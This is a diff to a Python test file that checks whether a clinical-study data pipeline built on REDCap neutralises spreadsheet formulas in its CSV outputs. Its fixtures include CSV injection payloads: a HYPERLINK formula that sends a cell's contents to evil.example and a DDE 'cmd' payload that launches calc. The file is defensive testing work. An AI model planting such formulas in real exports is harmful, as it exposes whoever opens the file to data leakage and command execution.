@@ -5,33 +5,39 @@ participant may well write "-2 days off" or "=)"): validation accepts it, the
 validated tables keep it verbatim, and every CSV written under results/ goes
 through io.write_csv, which puts an apostrophe before text cells starting with
 =, +, -, @, tab or carriage return while numbers (also negative ones) stay numbers.
+
+The payloads are typed into cells of the all-records export (data/raw/records.csv),
+named as REDCap names them: participant, event, field, repeat instrument and instance.
 """
 from __future__ import annotations
 
 import csv
 import io
+import re
 
 import pandas as pd
 import pytest
 
 from feasibility.io import write_csv
 from feasibility.pipeline import failures_frame
-from feasibility.redcap.messages import Failure
+from feasibility.redcap import Failure
 
-import records_helpers as rh
 from projectcopy import copy_project, run_snakemake
+from records_helpers import record_of, set_value
 
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
-PAYLOADS = {   # (participant, event, field, repeating instrument, instance) -> text typed into a free-text field
+PAYLOADS = {   # (participant, event, field, repeat instrument, instance) -> text typed into a free-text field
     ("PP23", "intervention", "ae_description", "adverse_event", "1"): '=HYPERLINK("http://evil.example/?"&A1,"Click")',
     ("PP03", "intervention", "sc_details", "status_change", "1"): "+1+1",
     ("PP03", "intervention", "sc_details", "status_change", "2"): "@SUM(A1)",
-    ("PP08", "intervention", "plc_role", "", ""): "-2+3",
-    ("PP05", "intervention", "sc_details", "status_change", "1"): "=cmd|' /C calc'!A0",
+    # PP01 was not placed: the placement role is hidden by its branching logic, so the value
+    # reaches a written CSV (a warning in results/validation/failures.csv)
+    ("PP01", "intervention", "plc_role", "", ""): "-2+3",
+    ("PP04", "week14", "emp_job_title", "", ""): "=cmd|' /C calc'!A0",
 }
-# a record ID may start with '-' (REDCap allows letters, digits, '-' and '_'); PP26's record S096
-RENAMED = ("S096", "-S096")
-
+# a record ID may start with '-' (REDCap's record names are free text); PP01's record is
+# named in that warning
+RENAMED = "PP01"
 
 def _is_number(cell: str) -> bool:
     try:
@@ -39,6 +45,11 @@ def _is_number(cell: str) -> bool:
     except ValueError:
         return False
     return True
+
+
+def field_form(raw, field: str) -> str:
+    dictionary = pd.read_csv(raw / "data_dictionary.csv", dtype=str, keep_default_na=False)
+    return dictionary.set_index("Variable / Field Name").at[field, "Form Name"]
 
 
 def unsafe_cells(text: str) -> list[str]:
@@ -64,8 +75,8 @@ def test_write_csv_neutralises_formulas_and_keeps_numbers(tmp_path):
 
 def test_a_failing_cell_written_as_csv_is_neutralised(tmp_path):
     # a formula typed into a coded field fails validation; its value in a CSV of failures is inert
-    failure = Failure("records.csv", 5, "S041", "baseline_arm_1", "", "eq5d_vas", "=cmd|' /C calc'!A0",
-                      "not a whole number")
+    failure = Failure("records.csv", 5, "S004", "baseline_arm_1", "", "eq5d_vas",
+                      "=cmd|' /C calc'!A0", "not a number")
     write_csv(tmp_path / "failures.csv", failures_frame([failure]))
     text = (tmp_path / "failures.csv").read_text(encoding="utf-8")
     assert unsafe_cells(text) == []
@@ -78,19 +89,22 @@ def test_pipeline_with_formulas_in_free_text_writes_only_safe_csvs(tmp_path):
     proj.mkdir()
     copy_project(proj)
     raw = proj / "data" / "raw"
+    old = record_of(raw, RENAMED)
     for (who, event, field, instrument, instance), text in PAYLOADS.items():
-        rh.set_value(raw, who, event, field, text, instrument=instrument, instance=instance)
-    old, new = RENAMED
-    header, body = rh.read_csv(raw / "records.csv")
-    assert any(r[0] == old for r in body)
-    rh.write_csv(raw / "records.csv", header, [[new if r[0] == old else r[0], *r[1:]] for r in body])
+        set_value(raw, who, event, field, text, instrument, instance)
+    new = "-" + old
+    records = raw / "records.csv"
+    records.write_text(re.sub(rf"^{old},", f"{new},", records.read_text(encoding="utf-8"), flags=re.M),
+                       encoding="utf-8")
 
     res = run_snakemake(proj)
     assert res.returncode == 0, (res.stdout + res.stderr)[-3000:]
 
     # validation accepted the free text and kept it verbatim
-    ae = pd.read_parquet(proj / "results" / "validated" / "adverse_event.parquet")
-    assert PAYLOADS[("PP23", "intervention", "ae_description", "adverse_event", "1")] in ae["ae_description"].tolist()
+    validated = proj / "results" / "validated"
+    for (who, event, field, instrument, instance), text in PAYLOADS.items():
+        form = pd.read_parquet(validated / f"{instrument or field_form(raw, field)}.parquet")
+        assert (form[field] == text).fillna(False).any(), (who, field)
 
     written = sorted((proj / "results").rglob("*.csv"))
     assert len(written) >= 10
@@ -101,5 +115,6 @@ def test_pipeline_with_formulas_in_free_text_writes_only_safe_csvs(tmp_path):
     cells = [c for p in written for row in csv.reader(io.StringIO(p.read_text(encoding="utf-8")))
              for c in row]
     assert "'" + new in cells and new not in cells
+    assert "'-2+3" in cells and "-2+3" not in cells          # the hidden placement role, too
     # and negative numbers are still numbers somewhere in the tables
     assert any(c.startswith("-") and _is_number(c) for c in cells)
